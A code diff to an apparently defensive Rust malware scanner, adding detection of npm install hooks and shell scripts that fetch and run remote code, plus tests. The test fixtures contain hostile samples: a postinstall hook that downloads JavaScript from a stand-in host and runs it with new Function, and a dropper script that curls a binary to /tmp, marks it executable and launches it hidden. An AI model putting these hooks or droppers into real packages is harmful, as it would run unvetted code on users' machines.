@@ -1025,6 +1025,14 @@ impl<'a> Behaviour<'a> {
                 // code from a host no one vouches for: the prose asks for it.
                 let what = format!("asks to download and run something from {host}");
                 bounded_push(&mut s.ask_fetch_run, (seen(path, n, what), trust));
+            } else if trust == Trust::Unknown
+                && INSTALL_HOOK.is_match(text)
+                && (PIPE_TO_INTERPRETER.is_match(text) || evaluated())
+            {
+                // An npm install hook that runs code fetched from a host no
+                // one vouches for: every install runs whatever it serves.
+                let run = seen(path, n, "runs it from an install hook");
+                bounded_push(&mut s.download_runs, (download.clone(), run));
             } else if trust >= Trust::LookAlike {
                 f.untrusted_download = Some((n, download.clone()));
             } else if HIDDEN_DROP.is_match(text) {
@@ -1636,7 +1644,7 @@ impl<'a> Behaviour<'a> {
                 &download.file,
                 download.line,
                 format!(
-                    "downloads from a bad or look-alike host and runs it: {}",
+                    "runs code downloaded unchecked: {}",
                     chain(&[download, run])
                 ),
                 "",
@@ -2270,7 +2278,7 @@ fn chain(items: &[&Seen]) -> String {
 /// The variable a line assigns (`key = …`, `const key = …`, `KEY=$(…)`).
 fn assigned_variable(text: &[u8]) -> Option<String> {
     static ASSIGN: LazyLock<Regex> = LazyLock::new(|| {
-        Regex::new(r"(?-u)^\s*(?:(?:const|let|var|local|export|my|our)\s+)?\(?\$?([A-Za-z_][A-Za-z0-9_]*)(?:\s*,\s*\$?[A-Za-z_][A-Za-z0-9_]*)*\)?\s*(?::\s*[\w\[\]<>]+\s*)?:?=[^=~]|\bas\s+([A-Za-z_][A-Za-z0-9_]*)\s*:\s*$|^\s*for\s*\(?\s*(?:const\s+|let\s+|var\s+|my\s+)?\$?([A-Za-z_][A-Za-z0-9_]*)(?:\s*,\s*[A-Za-z_]\w*)*\s+(?:in|of)\b")
+        Regex::new(r"(?-u)^\s*(?:[\w*|.-]+\)\s+)?(?:(?:const|let|var|local|export|my|our)\s+)?\(?\$?([A-Za-z_][A-Za-z0-9_]*)(?:\s*,\s*\$?[A-Za-z_][A-Za-z0-9_]*)*\)?\s*(?::\s*[\w\[\]<>]+\s*)?:?=[^=~]|\bas\s+([A-Za-z_][A-Za-z0-9_]*)\s*:\s*$|^\s*for\s*\(?\s*(?:const\s+|let\s+|var\s+|my\s+)?\$?([A-Za-z_][A-Za-z0-9_]*)(?:\s*,\s*[A-Za-z_]\w*)*\s+(?:in|of)\b")
             .expect("assign")
     });
     // Most lines assign nothing: the fast search first, captures only then.
@@ -3568,6 +3576,10 @@ fn line_of(bytes: &[u8], at: usize) -> u32 {
     u32::try_from(newlines + 1).unwrap_or(u32::MAX)
 }
 
+/// An npm lifecycle script, run by `npm install`.
+static INSTALL_HOOK: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r#"(?-u)"(?:pre|post)?install"\s*:"#).expect("install hook"));
+
 /// What was fetched on the line, evaluated as code there.
 static EVAL_FETCHED: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r"(?i-u)\b(?:exec|eval)\s*\(|\|\s*(?:iex|Invoke-Expression)\b|\biex\s*\(|\bnew\s+Function\s*\(")
@@ -3575,7 +3587,7 @@ static EVAL_FETCHED: LazyLock<Regex> = LazyLock::new(|| {
 });
 
 static GET_CALL: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r"(?-u)\bhttps?\.get\(|\brequests\.get\(|\burlopen\(|\bhttp\.Get\(|\bURI\.open\(|\bNet::HTTP\.get\(|\bfetch\(\s*[\x22'\x60]https?://")
+    Regex::new(r"(?-u)\bhttps?\.get\(|\brequests\.get\(|\burlopen\(|\bhttp\.Get\(|\bURI\.open\(|\bNet::HTTP\.get\(|\bfetch\(\s*[\x22'\x60]https?://|\brequire\(\s*\\?[\x22']https?\\?[\x22']\s*\)\.get\(")
         .expect("get call")
 });
 
@@ -4484,6 +4496,35 @@ f{i}(S{i})
             "{:?}",
             rules(&hygiene)
         );
+    }
+
+    #[test]
+    fn install_hooks_and_case_arms_that_fetch_code_to_run() {
+        let hook = run(&[(
+            "package.json",
+            "{\n  \"scripts\": {\n    \"postinstall\": \"node -e \\\"require('https').get('https://cdn.npm-mirror.example/t.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>new Function(d)())})\\\"\"\n  }\n}\n",
+        )]);
+        assert!(
+            rules(&hook).contains(&("behaviour.untrusted-download-run", Severity::Critical)),
+            "{:?}",
+            rules(&hook)
+        );
+        let arms = run(&[(
+            "pre.sh",
+            "#!/bin/sh\nB=\"/tmp/.tw-native\"\ncase \"$(uname -s)\" in\n  Darwin) U=\"https://prebuilt.tw-native.example/darwin/tw\" ;;\n  *)      U=\"https://prebuilt.tw-native.example/linux/tw\" ;;\nesac\ncurl -fsSL \"$U\" -o \"$B\"\nchmod +x \"$B\"\nnohup \"$B\" --daemon >/dev/null 2>&1 &\n",
+        )]);
+        assert!(
+            rules(&arms).contains(&("behaviour.dropper", Severity::Critical)),
+            "{:?}",
+            rules(&arms)
+        );
+        // A vendor's prebuilt binary fetched by a script the hook runs is
+        // not evaluated on the hook's line.
+        let prebuilt = run(&[(
+            "package.json",
+            "{\n  \"scripts\": {\n    \"postinstall\": \"node scripts/fetch-binary.js\"\n  }\n}\n",
+        )]);
+        assert!(prebuilt.is_empty(), "{:?}", rules(&prebuilt));
     }
 
     #[test]
